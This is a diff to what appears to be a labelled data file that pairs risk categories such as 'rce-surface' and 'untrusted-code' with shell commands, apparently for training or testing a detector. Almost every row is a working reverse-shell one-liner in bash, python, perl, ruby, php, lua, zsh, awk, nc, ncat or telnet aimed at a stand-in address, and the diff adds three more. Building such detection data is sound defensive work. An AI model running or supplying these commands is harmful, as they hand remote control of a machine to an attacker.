@@ -27,6 +27,8 @@ persistence                    | osascript -e 'tell app "System Events" to make 
 rce-surface                    | python3 -c "import pty,socket,os;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
 rce-surface                    | perl -e 'use Socket;$i="203.0.113.7";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'
 unclear                        | ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
+rce-surface                    | php -r '$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
+rce-surface                    | lua -e "require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"
 unclear                        | awk 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while(1){printf "> " |& s;if((s |& getline c)<=0)break;while(c|getline)print $0|&s;close(c)}}'
 rce-surface                    | busybox nc 203.0.113.7 4444 -e /bin/sh
 rce-surface                    | rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f
@@ -35,6 +37,7 @@ external-api-writes            | openssl s_client -quiet -connect 203.0.113.7:44
 untrusted-code                 | telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445
 untrusted-code                 | exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done
 rce-surface                    | bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
+rce-surface                    | zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
 rce-surface                    | nohup setsid bash -c 'bash -i >& /dev/udp/203.0.113.7/53 0>&1' &
 rce-surface                    | ncat --udp 203.0.113.7 53 -e /bin/bash
 rce-surface                    | ncat -lvp 4444 --sh-exec /bin/bash
